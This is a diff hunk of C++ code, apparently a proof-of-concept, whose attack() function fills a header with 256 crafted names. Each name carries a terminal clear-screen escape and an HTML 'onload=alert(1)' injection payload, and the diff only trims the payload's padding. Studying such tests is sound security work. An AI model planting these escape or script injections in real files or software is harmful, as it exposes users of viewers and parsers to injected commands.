@@ -65,7 +65,7 @@ void attack()
 {
     Header* h = find();
     if (h == nullptr) return;
-    char name[65] = "\033[2J<x-umbral onload=alert(1)>                                    ";
+    char name[65] = "\033[2J<x-umbral onload=alert(1)>                               ";
     for (int i = 0; i < 256; ++i) { name[50] = static_cast<char>('a' + i % 26); name[51] = static_cast<char>('a' + i / 26); put(h, name, {1, 1, 1, 1, 0, 0}, 4, 1); }
     finish(h);
 }
